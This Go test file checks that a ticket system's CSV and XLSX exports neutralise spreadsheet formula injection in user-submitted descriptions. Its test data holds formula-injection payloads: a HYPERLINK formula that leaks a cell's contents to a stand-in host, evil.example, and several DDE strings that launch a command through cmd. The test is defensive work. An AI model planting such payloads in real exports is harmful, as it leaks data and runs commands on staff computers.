package handlers_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// Descriptions that a spreadsheet would run as formulas leave the CSV export as text (a single
// quote before them, as OWASP advises), and the XLSX export as string cells, never formulas.
func TestExportsKeepFormulaTextAsText(t *testing.T) {
	a := newTestApp(t)
	formulas := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")`,
		`+1+cmd|' /C calc'!A0 页面数字错误`,
		`-2+3+cmd|' /C calc'!A0 栏目显示错误`,
		`@SUM(1+1)*cmd|' /C calc'!A0 链接错误`,
		`＝1+1 全角等号开头的描述内容`,
	}
	for _, d := range formulas {
		f := validFields()
		f["description"] = d
		if resp, body := a.postJSON("/api/v1/reports", jsonBody(f)); resp.StatusCode != 201 {
			t.Fatalf("submit %q: %d %v", d, resp.StatusCode, body)
		}
	}
	a.loginPage("gzw-staff")

	resp, body := a.get("/staff/tickets?format=csv")
	if resp.StatusCode != 200 {
		t.Fatalf("CSV: %d", resp.StatusCode)
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil || len(records) != len(formulas)+1 {
		t.Fatalf("CSV: %d records, %v", len(records), err)
	}
	col := -1
	for i, h := range records[0] {
		if h == "问题描述" {
			col = i
		}
	}
	got := map[string]bool{}
	for _, r := range records[1:] {
		got[r[col]] = true
		if r[0] == "" || strings.HasPrefix(r[0], "'") {
			t.Errorf("the ticket number %q was changed", r[0])
		}
	}
	for _, d := range formulas {
		if !got["'"+d] {
			t.Errorf("the CSV does not hold %q as text: %v", d, got)
		}
	}

	resp, body = a.get("/staff/tickets?format=xlsx")
	x, err := excelize.OpenReader(bytes.NewReader([]byte(body)))
	if resp.StatusCode != 200 || err != nil {
		t.Fatalf("XLSX: %d %v", resp.StatusCode, err)
	}
	rows, _ := x.GetRows("留言")
	for i := 3; i <= len(rows); i++ { // below the title and the headers
		cell, _ := excelize.CoordinatesToCellName(col+1, i)
		typ, _ := x.GetCellType("留言", cell)
		formula, _ := x.GetCellFormula("留言", cell)
		value, _ := x.GetCellValue("留言", cell)
		if formula != "" || typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("XLSX %s %q: type %v, formula %q", cell, value, typ, formula)
		}
	}
}
